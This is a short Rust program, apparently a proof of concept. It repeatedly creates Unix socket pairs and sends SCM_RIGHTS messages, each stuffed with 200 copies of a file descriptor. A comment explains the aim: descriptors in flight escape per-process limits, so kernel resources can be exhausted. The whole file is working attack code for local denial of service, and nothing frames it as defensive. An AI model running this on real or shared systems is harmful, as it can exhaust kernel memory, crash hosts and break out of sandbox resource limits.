use std::{ffi::c_void, io::Error, ptr::null_mut};

#[repr(C)]
struct Part { base: *const u8, size: usize }
#[repr(C)]
struct Rights { size: usize, level: i32, kind: i32, fds: [i32; 200] }
#[repr(C)]
struct Message { name: *mut c_void, name_size: u32, parts: *const Part, count: usize, control: *const Rights, control_size: usize, flags: i32 }

extern "C" {
    fn socketpair(domain: i32, kind: i32, protocol: i32, pair: *mut i32) -> i32;
    fn sendmsg(fd: i32, message: *const Message, flags: i32) -> isize;
}

// Descriptors in flight count for nobody's table: send each into a socket and close it.
fn main() {
    println!("attempt");
    let size = size_of::<Rights>();
    let rights = Rights { size, level: 1, kind: 1, fds: [1; 200] };
    let byte = Part { base: b"x".as_ptr(), size: 1 };
    let message = Message { name: null_mut(), name_size: 0, parts: &byte, count: 1, control: &rights, control_size: size, flags: 0 };
    let (mut pair, mut held) = ([0; 2], 0);
    while unsafe { socketpair(1, 0o4001, 0, pair.as_mut_ptr()) } == 0 {
        while unsafe { sendmsg(pair[0], &message, 0) } == 1 {
            held += 200;
        }
        println!("{held} {}", Error::last_os_error());
    }
}
